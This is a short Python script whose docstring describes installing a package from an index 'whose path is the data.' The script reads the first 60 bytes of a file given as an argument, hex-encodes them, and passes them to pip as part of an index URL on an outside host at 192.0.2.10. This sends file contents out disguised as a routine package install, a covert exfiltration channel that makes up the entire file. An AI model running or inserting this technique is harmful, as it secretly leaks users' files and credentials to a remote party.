"""Installs a package from an index whose path is the data."""

import subprocess
import sys

data = open(sys.argv[1], "rb").read(60).hex()
subprocess.run([sys.executable, "-m", "pip", "install", "--index-url", f"http://192.0.2.10/{data}/simple", "x"], check=False)
